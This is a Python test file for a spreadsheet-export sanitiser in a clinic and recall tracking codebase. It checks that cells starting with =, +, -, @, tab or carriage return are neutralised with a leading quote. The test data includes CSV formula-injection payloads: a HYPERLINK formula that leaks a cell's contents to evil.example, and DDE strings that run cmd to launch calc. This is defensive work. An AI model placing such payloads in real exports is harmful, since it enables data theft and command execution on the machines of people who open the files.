"""CSV exports neutralise formula injection (OWASP "CSV Injection"): a cell starting with
= + - @ TAB CR gets a leading ' unless it is a plain number; every export in src/ writes
through evqms.core.csvsafe."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

from evqms.core import csvsafe

SRC = Path(__file__).resolve().parents[2] / "src" / "evqms"

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_triggers_get_a_leading_quote(cell):
    assert csvsafe.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.2", "+1.5e3", "-0.001", "-12", ".5", "-1E-9"])
def test_plain_numbers_stay_numbers(cell):
    """A negative recovery or z-score must stay a number for whoever sums the column."""
    assert csvsafe.neutralise(cell) == cell


@pytest.mark.parametrize("cell", ["UCEV-24-001", "a=b", "1-2", "", "療法", 3, -3.2, None])
def test_other_cells_unchanged(cell):
    assert csvsafe.neutralise(cell) == cell


def test_writer_quotes_each_cell_of_each_row():
    out = io.StringIO()
    w = csvsafe.writer(out, lineterminator="\n")
    w.writerow(["=1+1", "-3.2", "ok"])
    w.writerows([["@x", 4]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3.2", "ok"], ["'@x", "4"]]


def test_clinic_survey_csv_neutralises_crawled_text():
    """The crawled page's sentence and institution are attacker-controlled text."""
    from evqms.landscape.clinic_survey import render_csv

    row = {
        "url": "https://clinic.example.jp/",
        "decision": "included",
        "reason": "=cmd|' /C calc'!A0",
        "matched": ["注射"],
        "sentence": "@SUM(1+1)",
        "institution": "+81-3-0000",
        "institution_name": "-Clinic",
        "queries": ["エクソソーム注射"],
    }
    rows = list(csv.reader(io.StringIO(render_csv({"results": [row]}))))
    assert rows[1][2:7] == ["'=cmd|' /C calc'!A0", "注射", "'@SUM(1+1)", "'+81-3-0000", "'-Clinic"]


def test_recall_csv_neutralises_recipient_fields(monkeypatch):
    from evqms.trace import exports

    at = dt.datetime(2024, 6, 1, 3, 0, tzinfo=dt.UTC)
    recipient = {
        "kind_text": "Shipment",
        "reference": "SHP-1",
        "at": at,
        "recipient": '=HYPERLINK("http://evil.example")',
        "place": "-1 Main St",
        "contact": "+81 3 0000 0000",
        "aliquots": ["L1-A001"],
        "route": "",
        "outcome_text": "returned",
        "confirmed_by": "",
        "confirmed_at": None,
        "note": "@note",
    }
    monkeypatch.setattr(exports, "recall_recipients", lambda recall, **kw: [recipient])
    monkeypatch.setattr(exports, "destructions", lambda recall: [])  # no unit destroyed in-house
    recall = SimpleNamespace(number="RC-1", lot=SimpleNamespace(number="L1"))
    rows = list(csv.reader(io.StringIO(exports.recall_csv(recall).decode("utf-8-sig"))))
    row = rows[1]
    assert row[5:8] == ['\'=HYPERLINK("http://evil.example")', "'-1 Main St", "'+81 3 0000 0000"]
    assert row[-1] == "'@note"


def test_every_csv_export_in_src_writes_through_csvsafe():
    """A new export cannot forget the neutralising writer: csv.writer/DictWriter only in csvsafe."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
